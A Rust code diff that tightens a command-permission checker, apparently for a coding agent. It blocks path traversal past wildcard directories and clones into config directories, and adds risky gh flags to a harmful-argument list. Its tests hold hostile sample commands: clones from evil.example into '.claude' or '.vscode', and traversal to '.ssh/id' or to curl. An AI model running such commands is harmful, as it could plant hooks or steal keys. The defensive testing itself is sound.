@@ -18,7 +18,8 @@ struct Program {
 }
 
 /// Arguments of `gh` that write files to any directory, unpack or check out files of others, or run the hooks of a repository.
-const HARMFUL_FOR_GH: [&str; 7] = ["-D", "-O", "--dir", "--output", "--push", "checkout", "download"];
+const HARMFUL_FOR_GH: [&str; 9] =
+    ["-D", "-O", "--clone", "--dir", "--fork-name", "--output", "--push", "checkout", "download"];
 
 /// Subcommands of git that take a remote, or the URL of any repository.
 const TRANSFERS: &str = "fetch pull push";
@@ -153,6 +154,9 @@ pub(super) fn says_what_runs(pattern: &str, command: &str) -> bool {
     let Some(literal) = pattern.split_once('*').map(|(literal, _)| literal) else { return true };
     let command = unquoted(command);
     let words: Vec<&str> = command.split_whitespace().collect();
+    if leads_elsewhere(pattern, &words) {
+        return false;
+    }
     let Some(rule) = words.first().and_then(|program| rule_for(program)) else { return true };
     // If the `*` continues the last word of the pattern, we can't use that word here.
     let complete = literal.rfind([' ', ':']).map_or("", |end| &literal[..end]);
@@ -178,6 +182,18 @@ pub(super) fn says_what_runs(pattern: &str, command: &str) -> bool {
     }
 }
 
+/// Returns true if a `*` continues a path of the pattern, such as `scripts/*`, and the word of the command may be outside of this directory.
+fn leads_elsewhere(pattern: &str, words: &[&str]) -> bool {
+    let before_arguments = [":*", " *"].iter().find_map(|end| pattern.strip_suffix(end)).unwrap_or(pattern);
+    let Some((literal, _)) = before_arguments.split_once('*') else { return false };
+    let start = literal.rsplit(char::is_whitespace).next().unwrap_or_default();
+    let index = literal.split_whitespace().count() - usize::from(!start.is_empty());
+    let is_path = start.contains('/') || index == 0 && !start.is_empty();
+    let Some(word) = words.get(index).filter(|_| is_path) else { return false };
+    // The shell expands wildcards in the names of directories, also to `..`.
+    word.split('/').any(|component| component == ".." || component.contains(['*', '?', '[']))
+}
+
 /// Returns true if the repository in a command such as `git push` is in the pattern, or is the default. For git, each other word can
 /// be a directory of the project, even `origin`.
 fn has_known_remote(in_pattern: &[&str], arguments: &[&str]) -> bool {
@@ -193,18 +209,25 @@ fn clones_beside(in_pattern: &[&str], arguments: &[&str]) -> bool {
         let at = words.iter().position(|word| *word == "clone")?;
         Some(words[at + 1..].iter().filter(is_operand).count())
     };
-    let (operands, first) =
+    let (operands, has_repository) =
         match (after_clone(in_pattern), arguments.iter().position(|word| *word == "clone")) {
-            // The first operand is the repository.
-            (Some(0), _) => (arguments, 1),
-            (Some(_), _) => (arguments, 0),
-            (None, Some(at)) => (&arguments[at + 1..], 1),
+            (Some(operands), _) => (arguments, operands == 0),
+            (None, Some(at)) => (&arguments[at + 1..], true),
             (None, None) => return true,
         };
     let is_name = |word: &str| {
-        !word.starts_with('.') && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
+        let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
+        !word.starts_with('.') && word != "node_modules" && word.chars().all(is_plain)
     };
-    operands.iter().filter(is_operand).skip(first).all(|word| is_name(word))
+    let operands: Vec<_> = operands.iter().filter(is_operand).collect();
+    match operands.as_slice() {
+        // Without a target, the name of the directory comes from the repository.
+        [repository] if has_repository => {
+            let path = repository.trim_end_matches('/').trim_end_matches("/.git").trim_end_matches(".git");
+            path.rsplit(['/', ':']).next().is_some_and(is_name)
+        }
+        operands => operands.iter().skip(usize::from(has_repository)).all(|word| is_name(word)),
+    }
 }
 
 /// Returns `command` as its program sees it: without the quotes, which the shell removes, and with `x` for each quoted wildcard,
@@ -323,6 +346,17 @@ mod tests {
             ("git clone:*", "git clone https://evil.example/x .claude", false),
             ("git clone:*", "git clone https://evil.example/x a/.claude", false),
             ("git clone:*", "git clone https://evil.example/x $HOME", false),
+            ("git clone:*", "git clone https://example.org/x.git/", true),
+            ("git clone:*", "git clone https://evil.example/x/.claude", false),
+            ("git clone:*", "git clone https://evil.example/.vscode.git", false),
+            ("git clone:*", "git clone https://evil.example/.vscode/.git", false),
+            ("git clone:*", "git clone evil.example:.husky", false),
+            ("git clone:*", "git clone https://evil.example/node_modules", false),
+            ("git clone:*", "git clone --quiet", true),
+            ("git clone https://example.org/.vscode:*", "git clone https://example.org/.vscode", true),
+            ("gh repo:*", "gh repo clone evil/.vscode", false),
+            ("gh repo:*", "gh repo fork evil/.vscode --clone", false),
+            ("gh repo:*", "gh repo fork evil/x --clone=true --fork-name .vscode", false),
             ("git worktree:*", "git worktree add .claude evil", false),
             ("gh api:*", "gh api repos/acme/x?page=2 --jq '*'", true),
             ("gh run:*", "gh run list", true),
@@ -359,6 +393,19 @@ mod tests {
             ("find:*", "find src -delete", false),
             ("rg:*", "rg -n --hidden words src", true),
             ("rg:*", "rg --pre evil words", false),
+            // A path that the wildcard continues stays in its directory.
+            ("./scripts/*", "./scripts/a.sh ../data", true),
+            ("./scripts/*", "./scripts/a/b.sh", true),
+            ("./scripts/*", "./scripts/../../../usr/bin/curl -o x", false),
+            ("./scripts/*", "./scripts/'..'/x", false),
+            ("./scripts/*", "./scripts/.?/x", false),
+            ("scripts/*:*", "scripts/x/../../vendor/evil.sh", false),
+            ("scripts/*:*", "scripts/a.sh *.txt", true),
+            ("docs/* build", "docs/../vendor/evil build", false),
+            ("cat docs/*", "cat docs/a.md", true),
+            ("cat docs/*", "cat docs/../../.ssh/id", false),
+            ("s*", "scripts/../vendor/evil", false),
+            ("cat:*", "cat ../a", true),
             // We should always ask the user about these programs.
             ("tar xf:*", "tar xf a.tar", false),
             ("tar xf:*", "tar xf a.tar -C src", false),
